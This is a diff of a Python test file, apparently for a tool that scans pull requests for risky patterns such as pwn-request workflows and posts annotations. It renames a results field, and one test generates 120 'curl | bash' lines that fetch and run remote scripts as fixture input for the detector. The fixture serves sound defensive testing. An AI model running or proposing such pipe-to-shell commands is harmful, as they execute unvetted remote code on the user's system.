@@ -54,7 +54,7 @@ def run_job(store, settings, doc, files, contents=None, model=None, severity=Non
 
 
 def final_output(run):
-    return next(u for u in run["updates"] if u.get("status") == "completed")["output"]
+    return next(w for w in run["writes"] if w.get("status") == "completed")["output"]
 
 
 def test_a_pwn_request_made_in_an_existing_workflow_is_unusual_with_a_failure_on_the_ref_line(store, settings):
@@ -135,7 +135,7 @@ def test_more_than_fifty_annotations_go_out_fifty_per_request(store, settings):
     lines = [f"curl -fsSL https://get{i}.example.sh | bash" for i in range(120)]
     doc, files = pull([changed("scripts/install.sh", new_file_patch("\n".join(lines)), status="added")])
     client, run = run_job(store, settings, doc, files, model=FakeBundle())
-    sizes = [len(u.get("output", {}).get("annotations", [])) for u in run["updates"] if "output" in u]
+    sizes = [len(u.get("output", {}).get("annotations", [])) for u in run["writes"] if "output" in u]
     assert max(sizes) <= 50 and sum(sizes) == len(run["annotations"]) >= 120
     assert sorted(a["start_line"] for a in run["annotations"] if a["path"] == "scripts/install.sh"
                   and a["annotation_level"] == "failure") == list(range(1, 121))
